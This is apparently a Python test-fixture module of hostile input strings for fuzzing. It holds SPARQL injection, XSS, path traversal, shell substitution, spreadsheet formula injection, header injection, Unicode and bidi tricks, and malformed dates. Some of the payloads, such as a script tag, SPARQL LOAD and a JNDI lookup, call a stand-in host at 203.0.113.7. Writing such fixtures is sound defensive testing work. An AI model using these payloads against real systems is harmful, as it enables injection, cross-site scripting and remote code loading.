"""Hostile words by kind: what a name, title, id, publisher or address may hold when somebody means harm, or none.

Control characters and what is not plain to see are written as escapes.
"""

from __future__ import annotations

import unicodedata

SPARQL = (
    '"} ; DROP ALL ; INSERT DATA { <urn:x> <urn:y> "',
    "'; DROP ALL; --",
    "} } UNION { ?s ?p ?o } #",
    "<urn:x> . } ; CLEAR ALL ; #",
    "SERVICE <http://203.0.113.7/sparql> { ?s ?p ?o }",
    "\\u0022 } ; LOAD <http://203.0.113.7/x> ; #",
    '"""@en . <urn:a> <urn:b> """',
    "}\n# params\n(UNDEF)",
    "?s ?p ?o",
    '\\"\\\\',
    "BASE <urn:x> PREFIX ir: <urn:y>",
)
HTML = (
    "<script>document.title='taken'</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "</title></textarea></script><script src=//203.0.113.7/x.js></script>",
    "<svg/onload=alert(1)>",
    "javascript:alert(document.cookie)",
    "data:text/html,<script>alert(1)</script>",
    "<!--live--><b id=taken><!--/live-->",
    "{{ 7*7 }} {% include '/etc/passwd' %}",
    "&lt;script&gt;&amp;#60;",
    "<base href=http://203.0.113.7/><meta http-equiv=refresh content=0>",
    "<style>*{display:none}</style><iframe src=/review></iframe>",
    "]]>]]&gt;<![CDATA[<b>",
)
PATHS = (
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "/etc/passwd",
    "....//....//etc",
    "%2e%2e%2f%2e%2e%2fetc",
    ".",
    "..",
    "CON",
    "a/b/c/../../d",
    "~root",
    "file:///etc/passwd",
    "-rf",
    "--store=/",
    "$(touch taken)",
    "`touch taken`; touch taken | touch taken",
    "x" * 5000,
    "a?b#c&d=e;f",
    "%00%0a%0d",
    "kg.toml",
)
SPREADSHEET = ('=HYPERLINK("http://203.0.113.7","x")', "+1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1+1")
FORMS = (
    "%s%n%x%d",
    "{0.__class__}",
    "${jndi:ldap://203.0.113.7/a}",
    "\x1b[2J\x1b]0;taken\x07",
    "a\r\nSet-Cookie: taken=1",
)
IRIS = (
    "http://example.org/a b",
    'http://example.org/"q"<x>{y}|z^`',
    "http://example.org/\u202egnp.exe",
    "http://user:pass%20word@example.org/",
    "http://[::1",
    "http://exa\u043cple.org/\u65e5\u672c?x=\u00e9#\U0001f600",
    "http://example.org/%zz%",
    "urn:",
    ":",
    "http://example.org/" + "a/" * 3000,
)
BIDI = (
    "\u202eniatir\u202c B",
    "\u2066\u2067\u2068 isolate \u2069",
    "\u0627\u0644\u0635\u064a\u0646 China \u200f\u200e",
    "\u05d9\u05e9\u05e8\u05d0\u05dc 2023-03-21 \u202b",
)
UNICODE = (
    "\ufeffmark",
    "z\u0301\u0302\u0303" + "\u0335" * 400,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "\ufdd0\uffff\U0001ffff",
    "\ue000\U000f0000\U00100000",
    "\u2028\u2029\x85\x0b\x0c",
    "\u0130stanbul \u0131\u017f\ufb01 \u1e9e",
    "\u212b\u00c5A\u030a",
    "\u200b\u200c\u2060\u00ad",
    "\uff21\uff22\uff23 \u4e2d\u56fd \u30ab\uff9e",
    "\u0660\u0661\u0662 \u0967\u0968 \u00b2\u00bd \u2167",
    "\U000e0041\U000e007f",
    "x\x01\x02\x1f\x7f\x80\x9f",
)
NUL, HALF = ("a\x00b", "\x00"), ("\ud800", "x\udfff y", "\udc80\ud83d")

KINDS: dict[str, tuple[str, ...]] = {
    "sparql": SPARQL,
    "html": HTML,
    "path": PATHS,
    "spreadsheet": SPREADSHEET,
    "form": FORMS,
    "iri": IRIS,
    "bidi": BIDI,
    "unicode": UNICODE,
    "nul": NUL,
    "surrogate": HALF,
}
"""Words by kind."""


def classes() -> dict[str, str]:
    """A few characters of every general category of Unicode that this Python knows, first and last ones."""
    found: dict[str, list[str]] = {}
    for code in (*range(0xD800), *range(0xE000, 0x12000), *range(0x1F000, 0x20000), *range(0xE0000, 0xE0200), 0x10FFFF):
        found.setdefault(unicodedata.category(chr(code)), []).append(chr(code))
    return {name: "".join(each[:4] + each[-4:]) for name, each in sorted(found.items())}


DATES = (
    "0000-00-00",
    "9999-12-31",
    "10000-01-01",
    "-0001-01-01",
    "2023-02-30",
    "99999999999999999999",
    "1e309",
    "NaN",
    "2023-03-21T25:61:61Z",
    "2023-03-21T10:00:00+99:99",
    "\u0662\u0660\u0662\u0663-\u0660\u0663-\u0662\u0661",
    "2023-03-21" * 2000,
    "Tue, 99 Mar 99999 10:00:00 +9999",
    "0001-01-01T00:00:00+14:00",
    "9999-12-31T23:59:59-14:00",
    "'2023-03-21' OR 1=1",
    "2023-W12-2",
    "21/03/2023",
)
"""What stands where a date is wanted."""
